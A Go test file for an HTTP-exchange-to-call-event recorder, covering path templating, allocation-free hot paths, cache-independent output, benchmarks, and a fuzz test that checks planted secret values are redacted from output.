	require.Equal(t, "{malformed}/{malformed}", call(r, ex("GET a/b", nil, "", "", "")).Template)
	c := call(r, ex("GET HTTP://shop.example/users/7?x=1", nil, "", "", ""))
	require.Equal(t, "/word:users/integer", show(c.Path))
	require.Equal(t, "x", c.Params[0].Name)
}

func hot() *proto.Exchange {
	return ex("GET /api/v1/users/9b2f2c50-7d0a-7b4e-8a31-1f0c5d2e4b6a/orders?page=2&limit=50",
		[]string{"User-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/120.0", "Accept: application/json", "Accept-Encoding: gzip, br", "Connection: keep-alive",
			"Authorization: Bearer " + jwt(`{"alg":"RS256"}`, `{"iss":"https://id.example","sub":"u1","exp":1764003600}`), "Cookie: theme=dark; lang=en", "X-Request-Id: 8d0f"},
		"", "application/json", `{"items":[{"id":1,"name":"lamp","price":12.5},{"id":2,"name":"desk","price":99}],"next":null}`)
}

func TestAKnownCallCostsNoAllocation(t *testing.T) {
	r, x := newClear(), hot()
	var c event.Call
	one := func() {
		r.Reset(&c)
		c.Service = "shop:8080"
		r.Call(&c, &testConn, x)
		r.ID(&testConn, x)
	}
	one()
	require.Zero(t, testing.AllocsPerRun(200, one))
}

func TestTheSameExchangeGivesTheSameCallWhateverCameBefore(t *testing.T) {
	fresh := call(newClear(), hot())
	r := newClear()
	for i := range 20_000 {
		call(r, ex(fmt.Sprintf("GET /a%d/%d?k%d=%d", i, i, i%500, i), []string{fmt.Sprintf("X-H%d: %d", i%300, i)}, fmt.Sprintf(`{"f%d":%d}`, i, i), "", ""))
	}
	again := call(r, hot())
	require.Equal(t, said(t, &fresh), said(t, &again))
	require.LessOrEqual(t, len(r.texts.m), 8192)
}

func BenchmarkCall(b *testing.B) {
	for _, budget := range []int{1, 1 << 40} {
		r, x := New(Config{Key: [32]byte{7}, Names: NamesClear, BodyBytes: budget}), hot()
		b.Run(fmt.Sprintf("same/bodies=%v", budget > 1), func(b *testing.B) {
			var c event.Call
			b.ReportAllocs()
			for range b.N {
				r.Reset(&c)
				c.Service = "shop:8080"
				r.Call(&c, &testConn, x)
				r.ID(&testConn, x)
			}
			require.Equal(b, event.AuthBearerJWT, c.Auth.Kind)
		})
	}
	r := New(Config{Key: [32]byte{7}, Names: NamesClear, BodyBytes: 1})
	b.Run("new paths", func(b *testing.B) {
		x := hot()
		var c event.Call
		b.ReportAllocs()
		for i := range b.N {
			copy(x.Target[len("/api/v1/users/"):], fmt.Appendf(nil, "%08x", i))
			r.Reset(&c)
			c.Service = "shop:8080"
			r.Call(&c, &testConn, x)
		}
	})
}

func FuzzNothingPanicsOrLeaks(f *testing.F) {
	f.Add([]byte("GET"), []byte("/a/b?c=d"), []byte("Bearer abc"), []byte(`{"a":"SECRETMARKq7"}`), []byte("application/json"), []byte("a.example"))
	f.Add([]byte("POST"), []byte("/%2e%2e/?a=%41&b"), []byte("Basic YTpi"), []byte("a=b&c=%zz"), []byte("application/x-www-form-urlencoded"), []byte("[::1]:80"))
	f.Add([]byte("X"), []byte("http://u:p@h/x;y=z#f"), []byte("Signature keyId=\"a\""), []byte(`[[[{"a":[1,{"b":"\u0041\\"`), []byte("text/json"), []byte("x:1"))
	f.Add([]byte("POST"), []byte("/a"), []byte("x"), []byte("--b\r\nContent-Disposition: form-data; name=\"n\"\r\n\r\nv\r\n--b--"), []byte("multipart/form-data"), []byte("a"))
	f.Fuzz(func(t *testing.T, method, target, auth, body, media, host []byte) {
		const mark = "7q9Zk3Xw8Vb2Nm5Tj1Lp6Rd4" // a value that reads like nothing but a secret
		r := newClear()
		x := &proto.Exchange{Method: method, Target: append(append([]byte(nil), target...), "?v="+mark...), Host: host, Start: at, Status: 200}
		x.Req.Fields = []proto.Field{{Name: []byte("Authorization"), Value: append(auth, mark...)}, {Name: []byte("Content-Type"), Value: media}, {Name: []byte("Cookie"), Value: append([]byte("a="+mark+";"), auth...)}}
		x.Req.Body, x.Req.Bytes = body, int64(len(body))
		x.Res.Fields = []proto.Field{{Name: []byte("content-type"), Value: media}}
		x.Res.Body = bytes.ReplaceAll(body, []byte("SECRET"), []byte(mark))
		a := call(r, x)
		out := said(t, &a)
		if !bytes.Contains(method, []byte(mark)) && strings.Contains(out, mark) {
			t.Fatalf("leaked: %s", out)
		}
		b := call(r, x) // from the caches
		require.Equal(t, out, said(t, &b))
		for _, body := range []*event.Body{a.RequestBody, a.ResponseBody} {
			if body == nil {
				continue
			}
			for i := 1; i < len(body.Fields); i++ {
				require.Less(t, body.Fields[i-1].At, body.Fields[i].At)
			}
		}
	})
}
